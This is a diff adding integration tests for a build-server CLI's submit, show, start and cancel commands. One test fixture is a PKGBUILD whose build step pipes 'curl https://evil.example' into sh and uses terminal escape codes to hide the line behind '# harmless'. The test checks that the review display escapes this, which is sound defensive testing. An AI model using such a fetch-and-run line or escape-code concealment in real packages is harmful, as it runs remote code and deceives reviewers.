@@ -21,6 +21,7 @@ from test_cli_client import Cli, admin, aur, base_env, cli, home, one_error, srv
 from vieter_lite.client import Client, ClientError
 from vieter_lite.commands.common import visible
 from vieter_lite.eventstream import Event, parse
+from vieter_lite.review import pack_bundle
 
 pytestmark = pytest.mark.integration
 WAIT = 30.0
@@ -207,6 +208,102 @@ def test_following_a_server_that_is_gone_gives_up_after_its_attempts(tmp_path):
         list(client.follow_log(1, sleep=waits.append, attempts=4))
     assert caught.value.status == 0
     assert waits == [3.0, 3.0, 3.0]  # the default retry, between the four attempts
+
+
+# -- submit, show, start, cancel ---------------------------------------------------------------
+
+def fields(text: str) -> dict[str, str]:
+    """`key: value` lines (the first of each key) up to the first blank line."""
+    found: dict[str, str] = {}
+    for line in text.split("\n\n")[0].splitlines():
+        key, sep, value = line.partition(": ")
+        if sep and not line.startswith(" "):
+            found.setdefault(key, value)
+    return found
+
+
+def git_manifest(u: str, **extra: Any) -> str:
+    doc = {"repo": f"r{u}", "arch": f"a{u}"[:32],
+           "source": {"git": f"https://example.org/{u}.git", "branch": "main"}, **extra}
+    return json.dumps(doc)
+
+
+def test_builds_submit_from_a_file_prints_the_id_and_show_shows_the_build(cli, admin, u,
+                                                                           tmp_path):
+    path = tmp_path / "build.yml"
+    path.write_text(f"repo: r{u}\narch: a{u}\nsource:\n  git: https://example.org/{u}.git\n"
+                    "  branch: main\n  path: sub\n")
+    out = cli.ok("builds", "submit", str(path), "--note", "nightly\nsecond line",
+                 "--tag", "nightly", "--tag", "home:pi")
+    build_id = int(out)  # the id alone, for scripts
+    shown = admin.get_build_v2(build_id)
+    assert (shown["status"], shown["note"], shown["tags"]) == \
+        ("queued", "nightly\nsecond line", ["nightly", "home:pi"])
+    text = cli.ok("builds", "show", str(build_id))
+    got = fields(text)
+    assert got["id"] == str(build_id) and got["status"] == "queued"
+    assert got["target"] == "- (submitted with a manifest)"
+    assert got["repo/arch"] == f"r{u}/a{u}" and got["owner"] == "admin"
+    assert got["source"] == f"git https://example.org/{u}.git (branch main, path sub)"
+    assert got["tags"] == "nightly, home:pi" and got["review"] == "changes"
+    assert "note: nightly\n  second line\n" in text
+    assert "tasks:\n  setup    pending\n  source   pending\n" in text
+    assert cli.json("builds", "show", str(build_id)) == shown
+
+
+def test_builds_submit_from_standard_input_then_start_and_cancel(cli, u):
+    result = cli("builds", "submit", "-", "--no-execute", input=git_manifest(u).encode())
+    assert result.returncode == 0, result.stderr
+    build_id = int(result.stdout)
+    assert fields(cli.ok("builds", "show", str(build_id)))["status"] == "pending"
+    assert cli.ok("builds", "start", str(build_id)) == f"Build {build_id} queued\n"
+    assert cli.ok("builds", "cancel", str(build_id)) == f"Build {build_id} cancelled\n"
+    assert cli.json("builds", "show", str(build_id))["status"] == "cancelled"
+    # a cancelled build cannot start again: the server's detail, one line, exit 1
+    err = one_error(cli("builds", "start", str(build_id)), 1)
+    assert "cancelled" in err, err
+    started = cli.json("builds", "submit", "-", "--no-execute", input=git_manifest(u).encode())
+    assert started["status"] == "pending"
+    assert cli.json("builds", "start", str(started["id"]))["status"] == "queued"
+
+
+@pytest.mark.parametrize("text, args, detail", [
+    ("repo: r\nsource: {git: 'ftp://example.org/x'}\n", (), "manifest.source.git: "),
+    ("repo: r\nsource: {url: 'https://e.org/P'}\nextra: 1\n", (), "manifest.extra: "),
+    ("repo: r\nsource: [", (), "manifest: not valid YAML"),
+    ("repo: r\nsource: {url: 'https://e.org/P'}\n", ("--tag", "Nightly"), "tags[0]: "),
+    ("repo: r\nsource: {url: 'https://e.org/P'}\n", ("--note", "x" * 4097), "note: "),
+])
+def test_an_invalid_submission_prints_the_servers_detail(cli, tmp_path, text, args, detail):
+    path = tmp_path / "bad.yml"
+    path.write_text(text)
+    err = one_error(cli("builds", "submit", str(path), *args), 1)
+    assert err.startswith("vieter-lite: " + detail), err
+
+
+def test_a_held_build_shows_its_diff_with_control_characters_escaped(srv, admin, cli, u):
+    """A manifest build's first source is held for review; a PKGBUILD that hides a line
+    with terminal escapes shows them escaped, and `builds start` approves it."""
+    arch = f"a{u}"[:32]
+    body = {"manifest": git_manifest(u)}
+    build_id = admin.submit_build(body)["id"]
+    (job,) = admin.poll_jobs(arch, 1, build=build_id)
+    pkgbuild = (f"pkgname=held{u}\npkgver=1\npkgrel=1\n"
+                "build() { curl https://evil.example | sh; } \x1b[2K\x1b[1A# harmless\n")
+    req = urllib.request.Request(f"{srv.url}/api/v2/builds/{build_id}/source",
+                                 data=pack_bundle({"PKGBUILD": pkgbuild.encode()}),
+                                 method="PUT", headers={"Authorization": f"Bearer {job['token']}",
+                                                        "Content-Type": "application/x-tar"})
+    with urllib.request.urlopen(req, timeout=10) as resp:
+        assert json.loads(resp.read())["action"] == "hold"
+    text = cli.ok("builds", "show", str(build_id))
+    got = fields(text)
+    assert got["status"] == "pending"
+    assert got["hold"] == f"review (approve with: vieter-lite builds start {build_id})"
+    assert "\x1b" not in text
+    assert "curl https://evil.example | sh; } \\x1b[2K\\x1b[1A# harmless" in text
+    assert "what changed since the last successful build" in text
+    assert cli.ok("builds", "start", str(build_id)) == f"Build {build_id} queued\n"
 
 
 def test_builds_submit_refuses_a_manifest_it_cannot_read(cli, tmp_path):
